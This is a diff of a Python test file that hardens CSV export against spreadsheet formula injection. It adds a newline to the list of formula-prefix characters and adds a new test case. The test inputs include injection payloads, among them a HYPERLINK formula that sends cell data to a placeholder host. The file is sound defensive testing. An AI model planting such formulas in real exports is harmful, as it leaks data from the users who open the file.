@@ -19,7 +19,7 @@ TABLES = [operation for operation in test_contract.OPERATIONS if "x-tallystick-c
 LISTS = [operation for operation in TABLES if operation.method == "GET" and operation.id not in ("getDensity", "getInequality")]
 QUERIES = {"getEfficiency": [contract_session.EFFICIENCY.partition("?")[2]], "getMalmquist": [contract_session.MALMQUIST.partition("?")[2], contract_session.MALMQUIST.partition("?")[2].replace("&distances=true", "")], "summariseSupplies": ["", "by=item", "by=province,site"],
            "summariseTransfers": ["", "by=state", "by=origin,destination"], "listFigures": ["", "limit=1000", "year=2011"]}
-FORMULA = tuple("=+-@\t\r'＝＋－＠")
+FORMULA = tuple("=+-@\t\r\n'＝＋－＠")
 
 
 @pytest.fixture(scope="module")
@@ -417,7 +417,7 @@ def test_without_a_header_line(server):
 
 
 @pytest.mark.parametrize("name", ["=1+1", "+1", "-1", "@SUM(A1)", "'quoted", "＝1", "\t=1", '=HYPERLINK("http://x/?"&A1,"a, b")',
-                                  "two\nlines", 'a "word"', "a,b", "plain", "北京"])
+                                  "two\nlines", "\n=1", 'a "word"', "a,b", "plain", "北京"])
 def test_texts_are_no_formulas_and_come_back(played, name):
     item = fresh("CSV")
     category = fresh("c").lower()
